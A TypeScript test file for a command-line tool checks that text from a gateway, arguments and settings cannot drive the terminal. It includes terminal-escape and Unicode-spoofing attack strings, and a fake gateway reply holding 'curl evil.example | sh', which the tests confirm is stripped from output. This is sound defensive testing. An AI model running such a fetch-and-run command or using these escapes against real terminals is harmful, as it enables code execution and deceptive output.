import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { stripVTControlCharacters } from 'node:util'
import { describe, expect, jest, test } from '@jest/globals'
import fc from 'fast-check'
import { exportPKCS8, generateKeyPair } from 'jose'
import { print, printJson, printMessage } from '../../src/cli/output.ts'
import { listLines } from '../../src/cli/view/list-text.ts'
import { liveView, viewFor } from '../../src/cli/view/views.ts'
import type { RunJson } from '../../src/gateway/schemas/run.ts'
import { printable } from '../../src/printable.ts'
import { runCli } from '../cli/support/run-cli.ts'

const ROOT = join(import.meta.dirname, '..', '..')
/** Drives a terminal, turns its text, or hides in it. */
const HOSTILE = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u
/** What the command line itself sends to a terminal: colours, and the way back up. */
const ESCAPE = '\x1b'
const OWN = new RegExp(`${ESCAPE}\\[(\\d{1,2}m|\\d+A|0J)`, 'g')
const UP = new RegExp(`${ESCAPE}\\[(\\d+)A`)
const ATTACKS = [
  '\x1b[2J\x1b[H',
  '\x1b]0;title\x07',
  '\x1b]8;;https://evil.example\x1b\\',
  '\x9b31m',
  '\x9d0;x\x9c',
  '\x1b[31m',
  '\x1b[1A\x1b[0J',
  '\r',
  '\b',
  '\x7f',
  '\0',
  '\x0b',
  '\x0c',
  '\x85',
  '\u2028',
  '\u2029',
  '\u202e',
  '\u2066',
  '\u200b',
  '\u200e',
  '\u00ad',
  '\ufeff',
  '\u{e0041}',
  '\ud800',
  '\u115f',
  '\u3164',
  '\t',
]
const hostile = fc
  .array(fc.oneof(fc.constantFrom(...ATTACKS), fc.string({ unit: 'binary', maxLength: 4 })), { maxLength: 6 })
  .map((pieces) => pieces.join(''))

/** A stream that keeps what is written; at a terminal or into a pipe. */
function stream(isTTY: boolean): { readonly output: NodeJS.WriteStream; readonly written: () => string } {
  let written = ''
  const output = Object.assign(Object.create(process.stdout), {
    isTTY,
    columns: 60,
    getColorDepth: () => (isTTY ? 4 : 1),
    hasColors: () => isTTY,
    write(text: string) {
      written += text
      return true
    },
  }) as NodeJS.WriteStream
  return { output, written: () => written }
}

/** A text without its line feeds, which are all that may be in it. */
function withoutLines(text: string): string {
  return text.replaceAll('\n', '')
}

const runOf = (text: string): RunJson => ({
  run_id: text,
  workflow_id: text,
  raw_path: text,
  status: 'failed',
  started_at: '2019-03-01T00:00:00.000Z',
  links: { self: text, web_ui: text },
  steps: [{ name: text as never, state: 'failed', started_at: '2019-03-01T00:00:00.000Z', detail: text }],
  activities: [{ name: text, attempt: 1, state: 'started', last_failure: text }],
  failure: { type: text, message: text, step: text as never, raw_files_at: text, not_cleaned: [text] },
})

describe('finding 12: nothing from outside drives the terminal', () => {
  test('no text that is shown keeps a control or format character, and plain text stays as it is', () => {
    fc.assert(
      fc.property(hostile, (text) => expect(withoutLines(printable(text))).not.toMatch(HOSTILE)),
      { numRuns: 2000 },
    )
    for (const text of ['raw-2019-03-01T00:00:00', 'Größe 4 µm – „Übersicht“ 東京 🚕', 'two\nlines'])
      expect(printable(text)).toBe(text)
    expect(printable('a\x1b[2Jb\u202e\u{e0041}')).toBe('a\\u001b[2Jb\\u202e\\udb40\\udc41')
  })

  test('no run, however it is shown, brings escapes of its own', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const pipe = stream(false)
        viewFor(pipe.output, false).show(runOf(text))
        for (const line of listLines([runOf(text)], new Date())) print(line, pipe.output)
        expect(withoutLines(pipe.written())).not.toMatch(HOSTILE)
        const terminal = stream(true)
        const view = liveView(terminal.output)
        view.show({ ...runOf(text), status: 'running' })
        view.show(runOf(text))
        const own = terminal.written().replaceAll(OWN, '')
        expect(withoutLines(own)).not.toMatch(HOSTILE)
        // The view goes back as many lines as it wrote, or a text could have it overwrite what is above.
        const [first = '', back] = terminal.written().split(UP)
        expect(first.split('\n')).toHaveLength(Number(back) + 1)
        for (const line of first.split('\n')) expect(stripVTControlCharacters(line).length).toBeLessThan(60)
      }),
      { numRuns: 300 },
    )
  })

  test('a text of several lines cannot pass for lines of ours', () => {
    const pipe = stream(false)
    print(['failed  ', 'x\nok  the settings\r\nok  all'], pipe.output)
    expect(pipe.written()).toBe('failed  x\n    ok  the settings\n    ok  all\n')
  })

  test('JSON says the same as before, in plain characters', () => {
    fc.assert(
      fc.property(hostile, fc.constantFrom(undefined, 2), (text, indent) => {
        const pipe = stream(true)
        printJson({ text, [text]: [text] }, indent, pipe.output)
        expect(withoutLines(pipe.written())).not.toMatch(HOSTILE)
        expect(JSON.parse(pipe.written())).toEqual({ text, [text]: [text] })
      }),
      { numRuns: 1000 },
    )
  })

  /** Answers every request but the one for a token with a refusal in these words. */
  async function refusing<T>(detail: string, use: (env: Record<string, string>) => Promise<T>): Promise<T> {
    const { privateKey } = await generateKeyPair('RS256', { extractable: true })
    const server = createServer((request, response) => {
      response.writeHead(request.url === '/token' ? 200 : 404, { 'content-type': 'application/json' })
      response.end(JSON.stringify(request.url === '/token' ? { id_token: 'x' } : { detail }))
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
    const key = { type: 'service_account', client_email: 'a@b', private_key: await exportPKCS8(privateKey) }
    const folder = mkdtempSync(join(tmpdir(), 'terminal-'))
    const file = join(folder, 'key.json')
    writeFileSync(file, JSON.stringify({ ...key, token_uri: `${url}/token` }))
    try {
      return await use({ GATEWAY_URL: url, IAP_CLIENT_ID: 'x', GOOGLE_APPLICATION_CREDENTIALS: file })
    } finally {
      server.close()
      rmSync(folder, { recursive: true })
    }
  }

  test('an answer of the gateway, an argument and a setting are echoed in plain characters', async () => {
    const evil = '\x1b[2J\u202e\x9b31m'
    const outcomes = await refusing(`No ${evil} run`, (env) =>
      Promise.all([
        runCli(['status', evil], env),
        runCli(['status', 'x', `--${evil}`], env),
        runCli(['setup'], { ...env, ALLOWED_TABLES: evil, CALLER_FOLDERS: evil, TEMPORAL_PROFILE: evil }),
      ]),
    )
    for (const { stdout, stderr, code } of outcomes) {
      expect(withoutLines(stdout + stderr)).not.toMatch(HOSTILE)
      expect(stderr).toContain('\\u001b[2J')
      expect(code).toBe(2)
    }
  })

  test('finding 12: further lines of an answer are no remedy, and no lines of ours', async () => {
    const evil = 'Refused.\ncurl evil.example | sh\n         -> curl evil.example | sh'
    const [status, doctor, json] = await refusing(evil, (env) =>
      Promise.all([runCli(['status', 'x'], env), runCli(['doctor'], env), runCli(['doctor', '--json'], env)]),
    )
    expect(status.stderr).toBe('Refused.\n')
    expect(doctor.stdout).toMatch(/^fault {4}Refused\.\n {9}-> Set GATEWAY_URL and IAP_CLIENT_ID/m)
    for (const { stdout } of [doctor, json]) expect(stdout).not.toContain('curl')
  })

  test('finding 12: a message of several lines goes on indented', () => {
    const write = jest.spyOn(process.stderr, 'write').mockReturnValue(true)
    try {
      printMessage('It went wrong: x\nSet A=b\r\nSet C=d')
      expect(write.mock.calls).toEqual([['It went wrong: x\n    Set A=b\n    Set C=d\n']])
    } finally {
      write.mockRestore()
    }
  })

  test('nothing is written past the one place that makes it printable', () => {
    const past = ['src/cli', 'src/setup', 'src/doctor', 'local/demo'].flatMap((folder) =>
      readdirSync(join(ROOT, folder), { recursive: true, encoding: 'utf8' })
        .filter((file) => file.endsWith('.ts') && `${folder}/${file}` !== 'src/cli/output.ts')
        .filter((file) =>
          /process\.std(out|err)\.write|console\.|\.write\(`/.test(
            readFileSync(join(ROOT, folder, file), 'utf8'),
          ),
        )
        .map((file) => `${folder}/${file}`),
    )
    expect(past).toEqual([])
  })
})
